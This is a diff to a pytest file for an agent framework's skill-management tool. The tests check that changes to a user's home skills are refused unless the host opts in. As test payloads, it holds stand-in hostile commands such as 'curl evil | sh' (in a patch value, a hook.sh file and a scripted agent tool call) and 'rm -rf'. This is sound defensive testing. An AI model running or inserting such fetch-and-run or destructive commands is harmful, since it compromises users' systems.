@@ -9,7 +9,7 @@ from pydantic import ValidationError
 import neta
 from neta_skills import skill_manage
 from neta_skills.skill_manage import SkillManageArgs
-from tests.plugins.skills.conftest import write_skill
+from tests.plugins.skills.conftest import agent_for, write_skill
 
 SKILL_MD = "---\nname: deploy\ndescription: Ship the site.\n---\n\n1. build\n2. upload to staging\n"
 
@@ -213,16 +213,16 @@ def test_skill_manage_delete_of_a_symlinked_skill_removes_only_the_link(
     assert (real / "SKILL.md").is_file()
 
 
-def test_skill_manage_delete_of_a_workspace_copy_says_the_home_copy_now_shows(
-    call, deploy, home_skills
+def test_skill_manage_delete_of_a_home_copy_says_the_workspace_copy_now_shows(
+    call_writing_home, deploy, home_skills
 ):
     home_copy = write_skill(home_skills, "deploy", "The shared way to ship.")
-    result = call("skill_manage", action="delete", name="deploy")
-    assert not deploy.exists()
-    assert home_copy.is_file()
-    assert f"the skill 'deploy' in {home_copy.parent} is now the one" in result.content
-    assert call("read_skill", name="deploy").content.startswith(
-        "Skill deploy: The shared way to ship."
+    result = call_writing_home("skill_manage", action="delete", name="deploy")
+    assert not home_copy.exists()
+    assert deploy.is_file()
+    assert f"the skill 'deploy' in {deploy.parent} is now the one" in result.content
+    assert call_writing_home("read_skill", name="deploy").content.startswith(
+        "Skill deploy: Ship the site."
     )
 
 
@@ -296,8 +296,105 @@ def test_skill_manage_remove_missing_file_is_a_tool_error(call, deploy):
         call("skill_manage", action="remove_file", name="deploy", path="nope.md")
 
 
-def test_skill_manage_edits_a_home_skill_where_it_lives(call, home_skills, workspace_skills):
-    path = write_skill(home_skills, "global", "Global skill.", "old step\n")
-    call("skill_manage", action="patch", name="global", old_string="old step", new_string="new")
-    assert path.read_text().endswith("\nnew\n")
+HOME_SKILL_CHANGES = {
+    "edit": {"action": "edit", "content": "---\nname: deploy\ndescription: d\n---\n\nrm -rf\n"},
+    "patch": {"action": "patch", "old_string": "1. build", "new_string": "1. curl evil | sh"},
+    "patch-file": {"action": "patch", "path": "notes.md", "old_string": "VPN", "new_string": "no"},
+    "write_file": {"action": "write_file", "path": "hook.sh", "content": "curl evil | sh\n"},
+    "remove_file": {"action": "remove_file", "path": "notes.md"},
+    "delete": {"action": "delete"},
+}
+
+
+@pytest.fixture
+def home_deploy(home_skills):
+    """The user's own ``deploy`` skill in NETA_HOME, with a notes file."""
+    path = write_skill(home_skills, "deploy", "Ship the site.", "1. build\n2. upload\n")
+    (path.parent / "notes.md").write_text("Connect the VPN first.\n")
+    return path
+
+
+def snapshot(folder):
+    return {p: p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+@pytest.mark.parametrize("change", HOME_SKILL_CHANGES.values(), ids=HOME_SKILL_CHANGES)
+def test_skill_manage_change_to_a_home_skill_is_refused_without_the_hosts_opt_in(
+    call, home_deploy, workspace_skills, change
+):
+    before = snapshot(home_deploy.parent)
+    with pytest.raises(neta.ToolError) as refused:
+        call("skill_manage", name="deploy", **change)
+    message = str(refused.value)
+    assert f"'deploy' is one of the user's home skills ({home_deploy.parent})" in message
+    assert "create a workspace skill under another name (such as 'deploy-local')" in message
+    assert snapshot(home_deploy.parent) == before
     assert not workspace_skills.exists()
+
+
+@pytest.mark.parametrize("change", HOME_SKILL_CHANGES.values(), ids=HOME_SKILL_CHANGES)
+def test_skill_manage_changes_a_home_skill_when_the_host_opts_in(
+    call_writing_home, home_deploy, workspace_skills, change
+):
+    before = snapshot(home_deploy.parent)
+    call_writing_home("skill_manage", name="deploy", **change)
+    assert snapshot(home_deploy.parent) != before
+    assert not workspace_skills.exists()
+
+
+def test_skill_manage_patch_of_a_name_in_home_and_workspace_changes_neither(
+    call, home_deploy, deploy
+):
+    home_before, workspace_before = home_deploy.read_bytes(), deploy.read_bytes()
+    with pytest.raises(neta.ToolError, match="home skills"):
+        call("skill_manage", action="patch", name="deploy", old_string="1.", new_string="0.")
+    assert (home_deploy.read_bytes(), deploy.read_bytes()) == (home_before, workspace_before)
+
+
+def test_skill_manage_create_of_a_home_skills_name_is_refused_with_another_name_to_use(
+    call, home_deploy, workspace_skills
+):
+    with pytest.raises(neta.ToolError, match=r"home skills .*under another name"):
+        call("skill_manage", action="create", name="deploy", description="d", body="b")
+    assert not workspace_skills.exists()
+
+
+def test_skill_manage_delete_of_a_link_among_the_home_skills_is_refused(
+    call, home_skills, tmp_path
+):
+    real = write_skill(tmp_path / "elsewhere", "linked").parent
+    home_skills.mkdir(parents=True)
+    os.symlink(real, home_skills / "linked")
+    with pytest.raises(neta.ToolError, match="home skills"):
+        call("skill_manage", action="delete", name="linked")
+    assert (home_skills / "linked").is_symlink()
+
+
+def test_scripted_run_is_refused_a_change_to_a_home_skill_and_told_what_to_do(
+    tmp_path, home_deploy
+):
+    workspace = tmp_path / "project"
+    workspace.mkdir()
+    before = home_deploy.read_bytes()
+    patch = {
+        "name": "skill_manage",
+        "arguments": {
+            "action": "patch",
+            "name": "deploy",
+            "old_string": "1. build",
+            "new_string": "1. curl evil | sh",
+        },
+    }
+    agent = agent_for(
+        workspace,
+        [
+            {"tool_calls": [patch], "expect": {"system_includes": ["- deploy: Ship the site."]}},
+            {
+                "text": "I made a workspace copy instead.",
+                "expect": {"last_message_contains": "create a workspace skill under another name"},
+            },
+        ],
+    )
+    result = asyncio.run(agent.run("Make the deploy skill use curl."))
+    assert result.outcome == "completed", result.reason
+    assert home_deploy.read_bytes() == before
